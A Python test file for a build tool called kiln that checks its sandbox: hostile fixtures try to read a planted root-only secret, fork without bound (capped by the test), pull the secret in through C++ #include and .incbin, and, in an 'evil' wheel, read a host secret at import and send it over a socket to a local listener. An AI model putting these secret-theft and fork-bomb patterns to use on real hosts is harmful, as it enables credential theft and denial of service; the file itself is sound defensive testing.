"""A package's code cannot betray the build host (issue 49): every sandboxed step runs as nobody,
also when kiln is root, with limits on its processes and a deadline per job, and `kiln validate
--import-with` imports a wheel's modules in the same sandbox. A root-only file deliberately made
visible inside the sandbox (planted in the torch sysroot, which every build step sees read-only)
cannot be read; a step that forks without bound (bounded by the test itself) is stopped by the
process limit; a step past its deadline is killed and named. As root, then as an unprivileged user
(where kiln sits in a user namespace of its own)."""

import json
import os
import secrets
import socket
import subprocess
import threading
import time
import tomllib
import unittest
import zipfile
from pathlib import Path

from kilntest import KILN, SHARED_CACHE, SourceTestCase
from test_sandbox import write_native

# What setup.py tries, in one run: who it is, the planted root-only file, a fork bomb (the test's
# own cap: never unbounded on a shared machine), then it hangs until its deadline.
SETUP_PY = r'''
import os, sys, time
print("KILN-IDENTITY uid=%%d gid=%%d groups=%%s" %% (os.getuid(), os.getgid(), os.getgroups()), flush=True)
try:
    open(%(planted)r).read()
    print("KILN-IDENTITY read the planted file", flush=True)
except Exception as e:
    print("KILN-IDENTITY read refused: " + type(e).__name__, flush=True)
children = 0
try:
    for _ in range(%(cap)d):
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        children += 1
    print("KILN-IDENTITY forked all %%d" %% children, flush=True)
except OSError as e:
    print("KILN-IDENTITY fork stopped after %%d: %%s" %% (children, e.strerror), flush=True)
time.sleep(600)
'''

# A module that, at import, reads a root-only file of the host and talks to a server on 127.0.0.1.
EVIL_MODULE = r'''
import socket
SECRET = open(%(secret)r).read()
s = socket.create_connection(("127.0.0.1", %(port)d), timeout=3)
s.sendall(SECRET.encode())
'''


class IdentityTest(SourceTestCase):
    def setUp(self):
        super().setUp()
        if os.geteuid() != 0:
            self.skipTest("these attacks are what a build run as root could do")
        self.planted_name = f"kiln-planted-{secrets.token_hex(8)}.key"
        self.secret = "kiln-secret-" + secrets.token_hex(16)

    def include_package(self, path):
        """A native package whose C++ file #includes `path`, and another that .incbin's it."""
        for name, payload in (("include", f'#include "{path}"'),
                              ("incbin", f'__asm__(".section .rodata\\n.incbin \\"{path}\\"\\n.previous");')):
            write_native(self.project, self.tmp, name, payload)

    def plant(self):
        """The root-only secret in the torch sysroot of the default target's wheel for python3 (the
        shared cache's, read-only in every build's sandbox)."""
        target = tomllib.loads((self.project / "manifests" / "targets" / "default.toml").read_text())
        tag = subprocess.run(["python3", "-c", "import sys; print('cp%d%d' % sys.version_info[:2])"],
                             capture_output=True, text=True, check=True).stdout.strip()
        sha = next(w["sha256"] for w in target["torch"]["wheel"] if w["python"] == tag)
        torch = SHARED_CACHE / "sysroots" / f"torch-{sha[:16]}" / "torch"
        self.assertTrue(torch.is_dir(), torch)
        planted = torch / self.planted_name
        planted.write_text(self.secret + "\n")
        planted.chmod(0o600)
        self.addCleanup(planted.unlink)
        return planted

    def hostile_setup(self, planted, cap):
        setup = SETUP_PY % {"planted": str(planted), "cap": cap}
        (self.project / "kernels" / "kiln-demo" / "setup.py").write_text(setup)

    def make_the_sysroot(self):
        """A build that fails at once, as root: the default target's torch sysroot is made."""
        self.include_package("/nonexistent/" + self.planted_name)
        first = self.kiln("--cache", str(self.fresh_cache("first")), "build", "include", timeout=1200)
        self.assertEqual(first.returncode, 1, first.stderr)
        self.assertIn("No such file or directory", first.stderr)

    def make_the_setuptools_environment(self):
        """As root, once: the setuptools backend's environment in the shared cache (made before the
        attacks: its pip install is a job that would not fit their short deadline)."""
        setup_py = self.project / "kernels" / "kiln-demo" / "setup.py"
        original = setup_py.read_text()
        setup_py.write_text("import sys\nsys.exit(1)\n")
        proc = self.kiln("--cache", str(self.fresh_cache("env")), "build", "kiln-demo", "--backend", "setuptools",
                         timeout=1800)
        setup_py.write_text(original)
        self.assertEqual(proc.returncode, 1, proc.stderr)
        self.assertIn("pip wheel kiln-demo failed", proc.stderr)

    def check_attacks(self, run, view=lambda path: path):
        """The attacks through `run(args, env) -> CompletedProcess` (kiln as some user, who sees
        the shared cache's `path` at `view(path)`)."""
        planted = view(self.plant())
        self.include_package(str(planted))
        for name, why in (("include", "Permission denied"), ("incbin", "file not found")):
            proc = run(["build", name], {})
            self.assertEqual(proc.returncode, 1, proc.stderr)
            self.assertIn(why, proc.stderr)
            self.assertNotIn(self.secret, proc.stdout + proc.stderr)
        self.hostile_setup(planted, cap=400)
        started = time.monotonic()
        proc = run(["build", "kiln-demo", "--backend", "setuptools"],
                   {"KILN_MAX_PROCESSES": "48", "KILN_JOB_TIMEOUT": "20s"})
        took = time.monotonic() - started
        self.assertEqual(proc.returncode, 1, proc.stderr)
        self.assertLess(took, 240, proc.stderr)
        self.assertIn("KILN-IDENTITY uid=65534 gid=65534 groups=[]", proc.stderr)
        self.assertIn("KILN-IDENTITY read refused: PermissionError", proc.stderr)
        self.assertNotIn("KILN-IDENTITY read the planted file", proc.stderr)
        self.assertRegex(proc.stderr, r"KILN-IDENTITY fork stopped after [1-4]?\d: Resource temporarily unavailable")
        self.assertIn("pip wheel kiln-demo ran past its deadline of 20 s (KILN_JOB_TIMEOUT) and was stopped",
                      proc.stderr)
        self.assertNotIn(self.secret, proc.stdout + proc.stderr)

    def test_as_root_each_step_is_nobody_within_limits_and_a_deadline(self):
        cache = self.fresh_cache("c")
        self.make_the_sysroot()
        self.make_the_setuptools_environment()
        self.check_attacks(lambda args, env: self.kiln("--cache", str(cache), *args, env=env, timeout=1200))
        # A build root goes back to root (nothing of nobody's is left in the cache).
        self.assertEqual([p for p in cache.rglob("*") if not p.is_symlink() and p.lstat().st_uid != 0], [])

    def test_as_unprivileged_user_too(self):
        if subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "unshare", "--user",
                           "--map-root-user", "--mount", "true"], capture_output=True).returncode != 0:
            self.skipTest("unprivileged user namespaces are not allowed here")
        theirs = self.tmp / "nobody"
        (theirs / "cache").mkdir(parents=True)
        # One interpreter both can run (root's python3 may live in its private home).
        target = self.project / "manifests" / "targets" / "default.toml"
        target.write_text(target.read_text().replace('interpreter = "python3"', 'interpreter = "/usr/bin/python3"'))
        self.make_the_sysroot()
        self.make_the_setuptools_environment()
        os.chmod(self.tmp, 0o755)
        binds = []
        for part in ("downloads", "sysroots", "toolkits", "envs"):
            (theirs / "cache" / part).mkdir()
            binds.append(f"mount --bind {(SHARED_CACHE / part).resolve()} {theirs / 'cache' / part}")

        def run(args, env):
            subprocess.run(["chown", "-R", "65534:65534", str(theirs), str(self.project), str(self.tmp / "src-include"),
                            str(self.tmp / "src-incbin")], check=False, capture_output=True)
            exports = " ".join(f"{k}={v}" for k, v in env.items())
            return self.in_private_tmp("\n".join(binds) + f"""
cd {self.project}
setpriv --reuid=65534 --regid=65534 --clear-groups env HOME={theirs} KILN_CONFIG=/dev/null {exports} \
  {KILN} --cache {theirs / 'cache'} {' '.join(args)} --offline
""", check=False)
        self.check_attacks(run, view=lambda path: theirs / "cache" / path.relative_to(SHARED_CACHE))

    def test_validate_imports_a_wheel_in_the_sandbox(self):
        secret_file = self.tmp / "host-secret.key"
        secret_file.write_text(self.secret)
        secret_file.chmod(0o600)
        server = socket.socket()
        server.bind(("127.0.0.1", 0))
        server.listen(4)
        self.addCleanup(server.close)
        heard = []

        def listen():
            while True:
                try:
                    conn, _ = server.accept()
                except OSError:
                    return
                heard.append(conn.recv(200))
                conn.close()
        threading.Thread(target=listen, daemon=True).start()
        wheel = self.tmp / "evil-1.0-py3-none-any.whl"
        files = {
            "evil/__init__.py": EVIL_MODULE % {"secret": str(secret_file), "port": server.getsockname()[1]},
            "evil_net.py": "import socket\nsocket.create_connection(('127.0.0.1', %d), timeout=3).sendall(b'hi')\n"
                           % server.getsockname()[1],
            "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
            "evil-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        }
        with zipfile.ZipFile(wheel, "w") as z:
            for name, text in files.items():
                z.writestr(name, text)
            z.writestr("evil-1.0.dist-info/RECORD",
                       "".join(f"{n},,\n" for n in files) + "evil-1.0.dist-info/RECORD,,\n")
        python = str(Path(os.environ.get("KILN_TORCH_ENV", "/nonexistent")) / "bin" / "python3")
        if not Path(python).exists():
            python = "/usr/bin/python3"
        proc = self.kiln("--json", "validate", str(wheel), "--import-with", python)
        self.assertEqual(proc.returncode, 1, proc.stderr)
        imported = {c["id"]: c for c in json.loads(proc.stdout)["wheels"][0]["checks"]}["import"]
        self.assertEqual(imported["verdict"], "fail", imported)
        text = json.dumps(imported)
        self.assertIn("import evil: FileNotFoundError", text)
        self.assertRegex(text, r"import evil_net: (OSError|ConnectionRefusedError|PermissionError)")
        self.assertNotIn(self.secret, proc.stdout + proc.stderr)
        time.sleep(0.5)
        self.assertEqual(heard, [])


if __name__ == "__main__":
    unittest.main()
